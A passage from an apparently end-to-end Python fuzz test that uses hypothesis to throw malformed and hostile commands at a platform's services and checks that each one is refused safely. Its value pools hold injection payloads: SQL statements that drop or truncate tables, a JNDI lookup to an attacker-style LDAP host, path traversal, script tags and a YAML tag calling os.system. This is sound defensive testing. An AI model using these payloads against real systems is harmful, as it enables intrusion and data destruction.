"""Hostile input: hypothesis generates malformed and hostile messages for every command topic
and sends them, with valid commands interleaved, to the five services on the real broker and
Postgres. Every hostile message must get its one outcome (a ``CommandRejected`` with a reason
code, a DLQ entry, or both when an unreadable message's id can be read), never a success and
never ``PROCESSING_FAILED`` (a handler that blew up); every valid command must succeed, and
every service must stay up and healthy.

``FUZZ_MESSAGES_PER_TOPIC`` (default 10,000) sets the number of hostile messages per command
topic; ``FUZZ_SEED`` fixes hypothesis's seed (otherwise random, and printed on failure).
Identical replays of an earlier message (same id, same content) are sent too and counted
apart: a duplicate has already had its one outcome, so they must cause nothing.
"""

from __future__ import annotations

import asyncio
import concurrent.futures
import itertools
import json
import multiprocessing
import os
import random
import time
import zlib
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any

import orjson
import pytest
from aiokafka import AIOKafkaConsumer, AIOKafkaProducer
from devstack.platform import SERVICES, Platform
from devstack.scenario import handled_count
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import seed as hypothesis_seed
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from testkit import running_platform

from mutualaid.contracts import Command, registered_types, topics
from mutualaid.contracts.envelope import decode
from mutualaid.identity import parse_resident_id, synthetic_id

pytestmark = pytest.mark.e2e

PER_TOPIC = int(os.environ.get("FUZZ_MESSAGES_PER_TOPIC", "10000"))
SEED = int(os.environ.get("FUZZ_SEED") or random.SystemRandom().randrange(2**32))
LIMIT = 65_536  # MAX_MESSAGE_BYTES for this platform: small, so oversize probes stay cheap
VALID_EVERY = 40  # one valid command per this many hostile ones, on every topic
OUTCOME_TIMEOUT = 120.0
STALL = 20.0  # seconds without a single outcome arriving while some are missing
TRUSTED = "tests/fuzz/"  # the only CloudEvents sources allowed to send commands here
SOURCES_SETTING = json.dumps({"*": [TRUSTED + "*"]})

#: Every command each service takes, from the contract registry: a new command is fuzzed too.
COMMANDS: dict[str, dict[str, type[Command]]] = {
    s: {t: m for t, m in registered_types().items()
        if issubclass(m, Command) and m.service() == s} for s in SERVICES}

# -- hostile values ---------------------------------------------------------------------------
# Hypothesis spends about 25 µs a draw, so values come from large pools of awkward material
# (one draw each), mixed with its own text; 10,000 messages a topic stay quick to make.

SQL = ("'; DROP TABLE members; --", "' OR '1'='1", "\"; SELECT pg_sleep(30); --",
       "$$; COPY (SELECT 1) TO PROGRAM 'id'; --$$", "1; TRUNCATE outbox CASCADE",
       "') UNION SELECT national_id, name FROM membership.members --", "\\'; --", "%' --",
       "E'\\\\x00'", "${jndi:ldap://evil/a}", "{{7*7}}", "%s%s%n", "../../etc/passwd",
       "<script>alert(1)</script>", "NULL", "null", "None", "-- ", "/*", "*/")
CONTROL = ("\x00", "\x01", "\x07", "\x08", "\x1b[2J", "\x1b]0;pwned\x07", "\n", "\r\n", "\t",
           "\x7f", "\x0b", "\x0c", "\x1f")
UNICODE = ("\u202e", "\ufeff", "\u200b", "\u2028", "\U0001d54f", "张*明", "ä", "\u0301",
           "Ω" * 3, "\U0001f4a9", "\uffff", "٣", "\u0000".join("ab"))
PIECES = SQL + CONTROL + UNICODE + ("", " ", "a", "x" * 50, "   ")
_rng = random.Random(20200614)  # the pools are the same on every run; hypothesis picks


def _pool(pieces: tuple[str, ...], size: int) -> list[str]:
    out = list(pieces) + [a + b for a in pieces[:12] for b in pieces[-12:]]
    while len(out) < size:
        out.append("".join(_rng.choice(pieces) for _ in range(_rng.randint(2, 4))))
    return out


TEXTS = _pool(PIECES, 1500)
PRINTABLE_TEXTS = _pool(tuple(p for p in PIECES if p not in CONTROL and "\x00" not in p), 800)


def hostile_text(max_len: int, *, controls: bool = True) -> st.SearchStrategy[str]:
    pool = TEXTS if controls else PRINTABLE_TEXTS
    own = st.text(max_size=10) if controls else st.text(
        st.characters(blacklist_categories=("Cc", "Cs")), max_size=10)
    return st.one_of(st.sampled_from(pool), st.sampled_from(pool), own).map(
        lambda s: s[:max_len])


#: Schema-valid ids that exist nowhere: the "~h" suffix keeps them apart from every id the
#: test sets up, so a command naming one is always refused by the rules.
HOSTILE_ID = hostile_text(100, controls=False).map(lambda s: (s or "x") + "~h")
_EXTREME = [date(1, 1, 1), date(1, 12, 31), date(1900, 1, 1), date(1969, 12, 31),
            date(2000, 2, 29), date(9999, 12, 31), date(59, 2, 28), date(60, 2, 29),
            date(2020, 2, 29), date(1970, 1, 1), date(2038, 1, 19)]
DATE_POOL = _EXTREME + [date.fromordinal(_rng.randint(1, date(9999, 12, 31).toordinal()))
                        for _ in range(3000)] + [date(2019, 1, 1) + timedelta(days=d)
                                                 for d in range(0, 1100, 3)]
DATES = st.sampled_from(DATE_POOL)
NEVER_VALID_DATES = ("2020-02-30", "2020-13-01", "2019-02-29", "0000-01-01", "10000-01-01",
                     "+2020-01-01", "2020/01/01", "20200101T", "yesterday", "", "2020-01-01x",
                     "１９９０-01-01", "2020-01-32", "-0001-12-31", "2020-00-10")
for _v in NEVER_VALID_DATES:  # keep the pool honest: none of them may validate
    with pytest.raises(ValidationError):
        TypeAdapter(date).validate_python(_v)
NEVER_VALID_DATETIMES = ("2020-06-01T25:00:00Z", "2020-06-31T00:00:00Z", "tomorrow", "",
                         "2020-06-01T00:00:00+25:00", "10000-01-01T00:00:00Z")
BIG = (2**31, 2**53 + 1, 2**63 - 1, 2**63, 2**64, 10**30, -(2**63) - 1)
NOT_A_SCALAR = ({"$ne": None}, {"$gt": ""}, [[1]], [{"a": 1}], {"__proto__": {"x": 1}})


def value_for(schema: dict[str, Any], defs: dict[str, Any]) -> st.SearchStrategy[Any]:
    """A value the field's JSON schema accepts, chosen to be awkward: SQL, control characters
    and odd Unicode in free text, ids that exist nowhere, dates far out of range, money that
    overflows 64 bits."""
    if "$ref" in schema:
        return model_value(defs[schema["$ref"].rsplit("/", 1)[-1]], defs)
    if "anyOf" in schema:
        return st.one_of(*[value_for(s, defs) for s in schema["anyOf"]])
    kind = schema.get("type")
    if kind == "null":
        return st.none()
    if kind == "boolean":
        return st.booleans()
    if kind == "integer":
        lo, hi = schema.get("minimum"), schema.get("maximum")
        if hi is None:  # unbounded (money): beyond what a Postgres bigint holds, too
            return st.sampled_from([0, 1, 99, 10**6, *(b for b in BIG if lo is None or b >= lo)])
        return st.integers(lo, hi)
    if kind == "array":
        return st.lists(value_for(schema["items"], defs), max_size=2)
    if kind == "string":
        if "enum" in schema:
            return st.sampled_from(schema["enum"])
        if schema.get("format") == "date":
            return DATES.map(date.isoformat)
        if schema.get("format") == "date-time":
            return DATES.map(lambda d: datetime(d.year, d.month, d.day, tzinfo=UTC).isoformat())
        if schema.get("pattern") == "^[0-9a-f]{64}$":
            return st.sampled_from([f"{_rng.getrandbits(256):064x}" for _ in range(50)])
        if "pattern" in schema:  # an Id
            return HOSTILE_ID
        lo, hi = schema.get("minLength", 0), schema.get("maxLength", 200)
        return hostile_text(min(hi, 200)).map(lambda s: (s or "x" * lo)[:hi])
    raise AssertionError(f"no strategy for {schema}")


def model_value(schema: dict[str, Any], defs: dict[str, Any]) -> st.SearchStrategy[dict]:
    """The required fields, and the optional ones a bit mask (one draw) picks."""
    required = [n for n in schema["properties"] if n in schema.get("required", ())]
    optional = [n for n in schema["properties"] if n not in required]
    fields = {n: value_for(s, defs) for n, s in schema["properties"].items()}
    mask = st.integers(0, 2 ** len(optional) - 1) if optional else st.just(0)

    @st.composite
    def build(draw: Callable[..., Any]) -> dict[str, Any]:
        chosen = draw(mask)
        names = required + [n for i, n in enumerate(optional) if chosen >> i & 1]
        return {n: draw(fields[n]) for n in names}
    return build()


SCHEMAS = {t: m.model_json_schema() for s in SERVICES for t, m in COMMANDS[s].items()}
SCHEMA_DATA = {t: model_value(s, s.get("$defs", {})) for t, s in SCHEMAS.items()}


def never_valid(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    """A value the field's schema refuses whatever else the message says."""
    options: list[Any] = list(NOT_A_SCALAR)
    kind = schema.get("type") or next((s.get("type") for s in schema.get("anyOf", ())
                                       if s.get("type") != "null"), None)
    fmt = schema.get("format") or next((s.get("format") for s in schema.get("anyOf", ())
                                        if s.get("format")), None)
    if fmt == "date":
        options += NEVER_VALID_DATES
    elif fmt == "date-time":
        options += NEVER_VALID_DATETIMES
    elif kind == "integer":
        lo, hi = schema.get("minimum"), schema.get("maximum")
        options += ["twelve", 1.5, "1e3", 1e-3]
        options += [lo - 1, lo - 2**64] if lo is not None else []
        options += [hi + 1, 10**40] if hi is not None else []
    elif kind == "boolean":
        options += ["maybe", 2, -1, "yes please"]
    elif kind == "string":
        options += [12, 1.5, True]
        if "enum" in schema:
            options += ["' OR 1=1 --", "CRITICAL_ILLNESS", ""]
        if schema.get("pattern") and schema["pattern"] != "^[0-9a-f]{64}$":
            options += [c.join(("id", "x")) for c in CONTROL] + ["", "x" * 129]
        if "maxLength" in schema:
            options.append("y" * (schema["maxLength"] + 1))
    elif kind == "array":
        options = ["not a list", 7, [{"$ne": None}]]
    return st.sampled_from(options)


# -- what a probe is, and what it must cause ---------------------------------------------------

@dataclass
class Probe:
    """One message to send, with the outcome it must have."""

    kind: str
    value: bytes
    key: bytes | None = None
    #: "dlq": copied to the DLQ with ``reason`` (and rejected too when ``rejection_id``);
    #: "rejected": refused by the rules (``rejection_id``); "ok": a command that must
    #: succeed with ``success_type``; "duplicate": a replay that must cause nothing.
    expect: str = "dlq"
    reason: str | None = None
    rejection_id: str | None = None
    success_type: str | None = None
    command_id: str | None = None
    import_refused: bool = False  # "ok" with MembersImported accepting nobody
    replay_of: Probe | None = field(default=None, repr=False)
    topic: str = ""
    partition: int | None = None
    offset: int | None = None


def readable_id(raw: bytes) -> str | None:
    """The id a rejection can name for a message that is not a valid CloudEvent (SPEC §8:
    rejected "when its id can be read"): a non-empty string without control characters."""
    try:
        doc = orjson.loads(raw)
    except orjson.JSONDecodeError:
        return None
    value = doc.get("id") if isinstance(doc, dict) else None
    if isinstance(value, str) and value and not any(c < " " or c == "\x7f" for c in value):
        return value[:256]
    return None


def classify(service: str, raw: bytes) -> tuple[str, str | None]:
    """The refusal the contract calls for, judged from the bytes alone: (reason, id to
    reject), or ("", id) when the message is a readable, authorised command."""
    if len(raw) > LIMIT:
        return "TOO_LARGE", None  # the id of an oversize probe is set by its builder
    try:
        ce = decode(raw)
    except ValueError:
        return "MALFORMED", readable_id(raw)
    model = COMMANDS[service].get(ce.type)
    if model is None:
        return "UNKNOWN_TYPE", ce.id
    try:
        model.model_validate(ce.data)
    except ValidationError:
        return "INVALID_DATA", ce.id
    if has_nul(ce.data):  # no text column or jsonb can hold it: refused with the data
        return "INVALID_DATA", ce.id
    if not ce.source.startswith(TRUSTED):
        return "UNAUTHORIZED_SOURCE", ce.id
    return "", ce.id


def has_nul(value: Any) -> bool:
    if isinstance(value, str):
        return "\x00" in value
    if isinstance(value, dict):
        return any(has_nul(k) or has_nul(v) for k, v in value.items())
    if isinstance(value, list):
        return any(has_nul(v) for v in value)
    return False


def dumps(doc: Any) -> bytes:
    """Compact JSON; integers beyond 64 bits (which orjson refuses) through the stdlib."""
    try:
        return orjson.dumps(doc)
    except TypeError:
        return json.dumps(doc, ensure_ascii=False, separators=(",", ":")).encode()


def envelope(service: str, type_name: str, data: Any, **attrs: Any) -> dict[str, Any]:
    doc = {"specversion": "1.0", "id": None, "source": TRUSTED + "hostile", "type": type_name,
           "time": "2020-06-01T00:00:00Z", "subject": "s", "datacontenttype": "application/json",
           "data": data}
    doc.update(attrs)
    return doc


# -- the hostile strategies ---------------------------------------------------------------------
# A strategy draws a Draft: the message without its CloudEvent id, which the collector assigns
# (unique per message) before it encodes and classifies it. Every strategy is built once per
# topic: hypothesis spends most of its time validating strategies built inside a draw.

@dataclass
class Draft:
    kind: str
    doc: Any = None  # a JSON document whose "id" is assigned, or...
    raw: bytes | None = None  # ...bytes sent as they are, or...
    raw_template: bytes | None = None  # ...bytes with b"@ID@" where the id goes
    key: bytes | None = None
    id_form: str = "plain"  # how the assigned id is spoiled: see assign_id
    domain_reject: bool = False  # schema-valid, authorised, but the rules must refuse it
    replay: bool = False  # re-uses an earlier probe's id: kind says with which content
    expect_import_refused: bool = False
    #: a command that may succeed, carrying hostile text: stored as it is or refused by a
    #: rule, never a crash (JoinPlan gets a fresh valid person)
    stored_text: str | None = None


KEYS = st.sampled_from([None, None, None, b"", b"\x00" * 8, b"\xff\xfe", "张".encode(),
                        *(t.encode() for t in TEXTS[:40]), *(_rng.randbytes(16) for _ in range(20))])
ID_FORMS = st.sampled_from(["plain"] * 6 + ["sql", "unicode", "spaces"])
BAD_ID_FORMS = st.sampled_from(["control", "empty", "number", "null", "list", "missing", "long",
                                "long"])
BAD_ATTRIBUTES: dict[str, tuple[Any, ...]] = {
    "specversion": ("0.3", "2.0", 1.0, None, "1.0 ", "1.0\x00", ""),
    "source": ("", 7, "a\nb", "s" * 600, None, ["tests"]),
    "type": ("", "JoinPlan", "x.", ".Y", "membership.Join Plan", "x.Y\x00", 42, "a" * 200,
             "membership.JoinPlan; DROP TABLE x", None),
    "time": ("yesterday", "2020-13-45T00:00:00Z", "", "now", [2020]),
    "subject": ("s" * 600, 123, {"a": 1}),
    "datacontenttype": (5, "x" * 200, None),
    "correlationid": ("c\x01", 5, "x" * 300, "\x1b[2J"),
}
SPOILS = st.sampled_from(["id", "missing", *BAD_ATTRIBUTES])
MISSING_ATTRIBUTE = st.sampled_from(["specversion", "source", "type"])
BAD_VALUES = {k: st.sampled_from(v) for k, v in BAD_ATTRIBUTES.items()}
GARBAGE = st.sampled_from([
    b'{"specversion":"1.0","id":"\\ud800","source":"s","type":"x.Y"}', b"\xef\xbb\xbf{}",
    b'{"id":"a\x00b"}', b"\x00" * 64, b"\xff\xfe{\x00}\x00", b'{"id": "x", "data": NaN}',
    b"[" * 5000, b'{"a":' * 3000 + b"1" + b"}" * 3000, b"", b" ", b"null"])
JSON_SCALARS = st.one_of(st.integers(), st.floats(allow_nan=False), st.text(max_size=20),
                         st.none(), st.booleans(), st.lists(st.integers(), max_size=3))
EXTRA_NAMES = st.sampled_from(["'; DROP TABLE x; --", "__proto__", "is_admin", "amount", "data",
                               "\x00", "", "id"])
EXTRA_VALUES = st.sampled_from([True, 0, "x", None, {"a": 1}])
BAD_DOCUMENTS = st.sampled_from(["doc", 5, [{"kind": ""}], [{"sha256": "z"}], [{}]])
MUTATIONS = st.sampled_from(["missing", "extra", "wrong", "wrong", "wrong", "not_object"])
OVERSIZE = st.one_of(st.just(LIMIT + 1), st.integers(LIMIT + 1, 4 * LIMIT))
FILLERS = st.sampled_from(["A", "'; DROP TABLE x; --", "\\u0000", "张"])
FOREIGN_SOURCES = st.one_of(
    st.sampled_from(["evil/attacker", "tests/fuzz", "TESTS/FUZZ/x", " tests/fuzz/x",
                     "mutualaid/membership", "tests/fuzz\\x", "*", "tests/fuz/z"]),
    hostile_text(60, controls=False).filter(lambda s: bool(s) and not s.startswith(TRUSTED)))
TYPE_NAMES = st.from_regex(r"\A[a-z]{1,12}\.[A-Za-z]{1,20}\Z")
REPLAY_KINDS = st.sampled_from(["replay_other_data"] * 3 + ["replay_identical"])


def _valid_resident_id(value: str) -> bool:
    try:
        parse_resident_id(value, today=date(9999, 12, 31))
    except ValueError:
        return False
    return True


INVALID_NATIONAL_IDS = st.one_of(
    hostile_text(32).map(lambda s: (s or "x")[:32]),
    st.from_regex(r"\A[0-9]{17}[0-9X]\Z").filter(lambda v: not _valid_resident_id(v)),
    st.sampled_from(["110105199003070120", "990105199003070128", "11010519900230012X",
                     "110105290003070121", "11010518990307012X", "000000000000000000",
                     "11010519900307012x'--", "１１０１０５１９９００３０７０１２１"]))
#: Years of the valid publicity rounds: hostile round dates stay out of them.
VALID_ROUND_YEARS = range(2077, 2100)
NOT_PUBLICITY_DAYS = DATES.filter(lambda d: d.day not in (7, 21)).map(date.isoformat)
NOT_OUR_ROUNDS = DATES.filter(lambda d: d.year not in VALID_ROUND_YEARS).map(date.isoformat)
NOT_SHARING_DAYS = DATES.filter(lambda d: d.day not in (14, 28)).map(date.isoformat)
BEFORE_ANY_RULES = st.dates(date(1, 1, 1), date(1999, 12, 31)).map(date.isoformat)
YEARS_1_TO_59 = st.dates(date(1, 1, 1), date(59, 12, 31)).map(date.isoformat)
BEFORE_JOINING = st.dates(date(1, 1, 1), date(2018, 12, 31)).map(date.isoformat)
FAILED_EXAMS = st.integers(0, 79)
#: Draft rulebooks a dry run might carry: not YAML, YAML of the wrong shape, alias bombs.
YAML = (
    "a: &a [1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,"
    "*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\nversions: [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n",
    "versions: !!python/object/apply:os.system ['true']", "versions: [{}]", "- - - -",
    "versions:\n  - version: x\n    effective_from: 0001-01-01\n", "{" * 500, "\t\x00", "")
DRAFT_RULEBOOKS = st.one_of(hostile_text(200), st.sampled_from(YAML))
SHORT_TEXT = hostile_text(200)


class Hostile:
    """The strategies for one command topic."""

    def __init__(self, service: str, targets: tuple[str, ...]) -> None:
        self.service = service
        self.types = sorted(COMMANDS[service])
        self.type_names = st.sampled_from(self.types)
        self.targets = st.sampled_from(targets) if targets else None
        self.required = {t: st.sampled_from(sorted(SCHEMAS[t]["required"])) for t in self.types}
        self.wrong = {t: {name: BAD_DOCUMENTS if "$ref" in sub or "$ref" in sub.get("items", {})
                          else never_valid(sub) for name, sub in SCHEMAS[t]["properties"].items()}
                      for t in self.types}
        self.field_names = {t: st.sampled_from(sorted(SCHEMAS[t]["properties"]))
                            for t in self.types}
        others = sorted(t for s in SERVICES if s != service for t in COMMANDS[s])
        events = sorted(t for t, m in registered_types().items()
                        if not issubclass(m, Command) and t.startswith(service + "."))
        self.unknown_types = st.one_of(
            st.sampled_from(others),  # another service's command, on this service's topic
            st.sampled_from(events),  # one of its own events, sent as a command
            st.sampled_from([f"{service}.DropTables", f"{service}.joinPlan",
                             f"{service}.Command", f"{service}.CommandRejected"]),
            TYPE_NAMES.filter(lambda t: t not in COMMANDS[service]))
        self.any_data = st.one_of(
            st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
            self.type_names.flatmap(lambda t: SCHEMA_DATA[t]))
        self.cut = st.integers(0, 10_000)
        weighted = [(self.not_json(), 10), (self.not_object(), 4), (self.bad_envelope(), 14),
                    (self.unknown_type(), 7), (self.invalid_data(), 24), (self.too_large(), 1),
                    (self.unauthorized(), 6), (self.duplicate_keys(), 2), (self.replay(), 3),
                    (self.domain(), 25)]
        if service in ("membership", "claims") and targets:
            weighted.append((self.stored_text(), 5))
        # interleaved, so hypothesis's lean towards the first entries favours no kind
        spread = sorted(((i + 0.5) / w, n) for n, (_, w) in enumerate(weighted) for i in range(w))
        self.strategy = st.sampled_from([weighted[n][0] for _, n in spread]).flatmap(
            lambda s: s)

    def not_json(self) -> st.SearchStrategy[Draft]:
        @st.composite
        def draft(draw: Callable[..., Any]) -> Draft:
            choice = draw(st.integers(0, 4))
            if choice == 0:
                raw = draw(st.binary(max_size=300))
            elif choice == 1:
                raw = draw(st.text(max_size=120)).encode("utf-8", "surrogatepass")
            elif choice == 2:  # a real command cut short
                full = dumps(envelope(self.service, draw(self.type_names), {"x": 1}, id="c"))
                raw = full[:draw(self.cut) % len(full)]
            elif choice == 3:  # lone surrogates, byte-order marks, NUL bytes, deep nesting
                raw = draw(GARBAGE)
            else:  # trailing garbage after a document
                raw = dumps(envelope(self.service, draw(self.type_names), {}, id="t")) + b"}x"
            return Draft("not_json", raw=raw, key=draw(KEYS))
        return draft()

    def not_object(self) -> st.SearchStrategy[Draft]:
        return st.builds(lambda v, k: Draft("json_not_object", raw=dumps(v), key=k),
                         JSON_SCALARS, KEYS)

    def bad_envelope(self) -> st.SearchStrategy[Draft]:
        @st.composite
        def draft(draw: Callable[..., Any]) -> Draft:
            type_name = draw(self.type_names)
            doc = envelope(self.service, type_name, draw(SCHEMA_DATA[type_name]))
            spoil = draw(SPOILS)
            id_form = "plain"
            if spoil == "id":  # unreadable: only a DLQ copy can carry the outcome
                id_form = draw(BAD_ID_FORMS)
            elif spoil == "missing":
                del doc[draw(MISSING_ATTRIBUTE)]
            else:
                doc[spoil] = draw(BAD_VALUES[spoil])
            return Draft("bad_envelope", doc=doc, key=draw(KEYS), id_form=id_form)
        return draft()

    def unknown_type(self) -> st.SearchStrategy[Draft]:
        return st.builds(
            lambda t, d, k, f: Draft("unknown_type", doc=envelope(self.service, t, d), key=k,
                                     id_form=f),
            self.unknown_types, self.any_data, KEYS, ID_FORMS)

    def invalid_data(self) -> st.SearchStrategy[Draft]:
        @st.composite
        def draft(draw: Callable[..., Any]) -> Draft:
            type_name = draw(self.type_names)
            data: Any = draw(SCHEMA_DATA[type_name])
            how = draw(MUTATIONS)
            if how == "missing":
                data.pop(draw(self.required[type_name]), None)
            elif how == "extra":
                data[draw(EXTRA_NAMES)] = draw(EXTRA_VALUES)
            elif how == "wrong":
                name = draw(self.field_names[type_name])
                data[name] = draw(self.wrong[type_name][name])
            else:
                data = draw(st.sampled_from([None, [], "data", 0, [data]]))
            return Draft("invalid_data", doc=envelope(self.service, type_name, data),
                         key=draw(KEYS), id_form=draw(ID_FORMS))
        return draft()

    def too_large(self) -> st.SearchStrategy[Draft]:
        @st.composite
        def draft(draw: Callable[..., Any]) -> Draft:
            size, filler = draw(OVERSIZE), draw(FILLERS)
            head = dumps({"specversion": "1.0", "id": "@ID@", "source": TRUSTED + "big",
                          "type": draw(self.type_names), "data": {"pad": ""}})
            prefix, suffix = head[:-3], head[-3:]  # ..."pad":"  |  "}}
            body = (filler * (size // len(filler.encode()) + 1)).encode()
            # "@ID@" becomes a longer id later: the message only grows
            return Draft("too_large", raw_template=prefix + body[:size - len(head)] + suffix,
                         key=draw(KEYS))
        return draft()

    def unauthorized(self) -> st.SearchStrategy[Draft]:
        @st.composite
        def draft(draw: Callable[..., Any]) -> Draft:
            type_name = draw(self.type_names)
            doc = envelope(self.service, type_name, draw(SCHEMA_DATA[type_name]),
                           source=draw(FOREIGN_SOURCES))
            return Draft("unauthorized_source", doc=doc, key=draw(KEYS), id_form=draw(ID_FORMS))
        return draft()

    def duplicate_keys(self) -> st.SearchStrategy[Draft]:
        """A repeated attribute: a reader that took the first "type" would see a real
        command; the document says the last."""
        return st.builds(lambda t, k: Draft(
            "duplicate_keys", raw_template=b'{"specversion":"1.0","id":"@ID@","type":"'
            + t.encode() + b'","source":"' + TRUSTED.encode() + b'x","type":"'
            + self.service.encode() + b'.Nope","data":{}}', key=k), self.type_names, KEYS)

    def replay(self) -> st.SearchStrategy[Draft]:
        return st.builds(lambda kind: Draft(kind, replay=True), REPLAY_KINDS)

    def stored_text(self) -> st.SearchStrategy[Draft]:
        """Commands that succeed but for their text: SQL, control characters, NUL, blanks and
        odd Unicode in a name, a hospital, a document kind; stored and shown as they are, or
        refused, but never a handler failure (Postgres refuses NUL in text)."""
        if self.service == "membership":
            return st.builds(lambda name, k: Draft("stored_text", doc=envelope(
                self.service, "membership.JoinPlan", join("", 0, name=name or " ")), key=k,
                stored_text="membership.MemberJoined"), hostile_text(100), KEYS)
        assert self.targets is not None
        return st.builds(lambda member, hospital, kind, k: Draft("stored_text", doc=envelope(
            self.service, "claims.FileClaim", {
                "case_id": "", "member_id": member, "illness_code": "malignant_tumour",
                "diagnosed_on": "2020-06-01", "hospital": hospital or " ",
                "documents": [{"kind": kind or "x", "sha256": "ab" * 32}]}), key=k,
            stored_text="claims.ClaimFiled"), self.targets, hostile_text(200),
            hostile_text(64), KEYS)

    def domain(self) -> st.SearchStrategy[Draft]:
        """Schema-valid, authorised commands the rules must refuse: they name nothing that
        exists, or break a rule whatever the other (hostile) fields say."""
        @st.composite
        def draft(draw: Callable[..., Any]) -> Draft:
            type_name = draw(self.type_names)
            data = draw(SCHEMA_DATA[type_name])
            name = type_name.split(".")[1]
            import_refused = False
            if name == "JoinPlan":
                data["national_id"] = draw(INVALID_NATIONAL_IDS)
            elif name == "ImportMembers":
                for m in data["members"]:
                    m["national_id"] = draw(INVALID_NATIONAL_IDS)
                import_refused = True
            elif name == "EndCoverageAtAgeLimit":
                data["on"] = draw(YEARS_1_TO_59)
            elif name == "OpenPublicityRound":
                data["round_date"] = draw(NOT_PUBLICITY_DAYS)
            elif name == "ClosePublicityRound":
                data["round_date"] = draw(NOT_OUR_ROUNDS)
            elif name == "RunSharingPeriod":
                how = draw(st.integers(0, 3))
                if how == 0:
                    data["sharing_date"] = draw(NOT_SHARING_DAYS)
                elif how == 1:
                    data["sharing_date"] = draw(BEFORE_ANY_RULES)
                elif how == 2:
                    data["draft_rulebook"], data["dry_run"] = draw(SHORT_TEXT), False
                else:
                    data["dry_run"], data["draft_rulebook"] = True, draw(DRAFT_RULEBOOKS)
            elif self.targets is not None and draw(st.booleans()):
                # at members that exist: the rules, not the lookup, must refuse
                if name == "FileClaim":
                    data["member_id"] = draw(self.targets)
                    data["illness_code"] = draw(HOSTILE_ID)[:64]  # no plan covers it
                elif name == "QualifyJuror":
                    data["member_id"] = draw(self.targets)
                    data["exam_score"] = draw(FAILED_EXAMS)
                elif name == "LeavePlan":
                    data["member_id"] = draw(self.targets)
                    data["left_on"] = draw(BEFORE_JOINING)
                elif name == "SettleArrears":
                    data["payer_id"] = draw(self.targets)
            return Draft("domain", doc=envelope(self.service, type_name, data), key=draw(KEYS),
                         id_form=draw(ID_FORMS), domain_reject=not import_refused,
                         expect_import_refused=import_refused)
        return draft()


# -- turning drafts into probes ----------------------------------------------------------------

def assign_id(doc: dict[str, Any], seq_id: str, form: str) -> None:
    """The message's id, spoiled as ``form`` says (unique in every readable form)."""
    forms: dict[str, Any] = {
        "plain": seq_id, "sql": seq_id + "'; DELETE FROM inbox; --",
        "unicode": seq_id + "-\u202e张\U0001f4a9", "spaces": seq_id + "   ",
        "long": seq_id + "L" * 400, "control": seq_id + "\x00\x1b", "empty": "",
        "number": 12345, "null": None, "list": [seq_id]}
    if form == "missing":
        doc.pop("id", None)
    else:
        doc["id"] = forms[form]


def shape(draft: Draft) -> tuple[Any, ...]:
    """What makes two drafts the same message (ids aside)."""
    return (draft.kind, draft.raw, draft.raw_template, draft.key, draft.id_form,
            dumps(draft.doc) if draft.doc is not None else None, draft.replay)


class Collector:
    """Turns drafts into probes for one topic: unique ids, encoding, the expected outcome."""

    def __init__(self, service: str, prefix: str, chunk_no: int = 0) -> None:
        self.service = service
        self.prefix = prefix
        self.chunk_no = chunk_no
        self.people = itertools.count()
        self.seq = itertools.count()
        self.replayable: list[Probe] = []
        self.rng = random.Random(zlib.crc32(prefix.encode()))
        self.mismatched = 0
        self.copies = 0
        self.seen: set[tuple[Any, ...]] = set()

    def probe(self, draft: Draft) -> Probe | None:
        if draft.replay:
            return self._replay(draft.kind)
        # hypothesis mutates what it drew before, often into the same message again: one
        # copy of each (the ids differ, so a copy would not even test a replay)
        key = shape(draft)
        if key in self.seen:
            self.copies += 1
            return None
        self.seen.add(key)
        seq_id = f"{self.prefix}-{next(self.seq):05d}"
        if draft.raw is not None:
            raw = draft.raw
        elif draft.raw_template is not None:
            raw = draft.raw_template.replace(b"@ID@", seq_id.encode(), 1)
        else:
            assign_id(draft.doc, seq_id, draft.id_form)
            data = draft.doc["data"]
            if draft.stored_text == "membership.MemberJoined":  # a person nobody else is
                n = 1_000_000 + self.chunk_no * 10_000 + next(self.people)
                fresh = join(f"{seq_id}-p", n, name=data["name"], joined_on=date(2020, 1, 2))
                draft.doc["data"] = fresh
            elif draft.stored_text == "claims.ClaimFiled":
                data["case_id"] = f"{seq_id}-c"
            raw = dumps(draft.doc)
        reason, rid = classify(self.service, raw)
        if draft.kind == "too_large":
            reason, rid = "TOO_LARGE", seq_id
        probe = Probe(draft.kind, raw, draft.key)
        if reason:
            probe.expect, probe.reason, probe.rejection_id = "dlq", reason, rid
        elif draft.stored_text:
            probe.expect, probe.success_type, probe.command_id = "either", draft.stored_text, rid
        elif draft.expect_import_refused:
            probe.expect, probe.success_type, probe.command_id = (
                "ok", "membership.MembersImported", rid)
            probe.import_refused = True
        elif draft.domain_reject:
            probe.expect, probe.rejection_id = "rejected", rid
        else:  # meant to be refused, but the contract reads it as a valid command: not sent
            self.mismatched += 1
            return None
        if probe.rejection_id is not None or probe.command_id is not None:
            self.replayable.append(probe)
        return probe

    def _replay(self, kind: str) -> Probe | None:
        if not self.replayable:
            return None
        original = self.replayable[self.rng.randrange(len(self.replayable))]
        if kind == "replay_identical":
            return Probe(kind, original.value, original.key, expect="duplicate",
                         replay_of=original)
        raw = orjson.dumps({"specversion": "1.0",
                            "id": original.rejection_id or original.command_id,
                            "source": TRUSTED + "replay",
                            "type": self.rng.choice(sorted(COMMANDS[self.service])),
                            "data": {"replayed": self.rng.random()}})
        return Probe(kind, raw, original.key, reason="ID_REUSED", replay_of=original)


BATCH = 10  # drafts per example: shares hypothesis's per-example cost; unique_by keeps its copies out


def generate(hostile: Hostile, seed: int, emit: Callable[[Draft], bool]) -> None:
    """Runs hypothesis over one topic's strategies, handing each draft to ``emit`` until it
    says that is enough."""
    wanted = [True]
    batch = st.lists(hostile.strategy, min_size=1, max_size=BATCH, unique_by=shape)

    def collect(drafts: list[Draft]) -> None:
        for draft in drafts:
            if wanted[0]:
                wanted[0] = emit(draft)

    for round_no in range(50):
        if not wanted[0]:
            return
        run = given(batch)(collect)
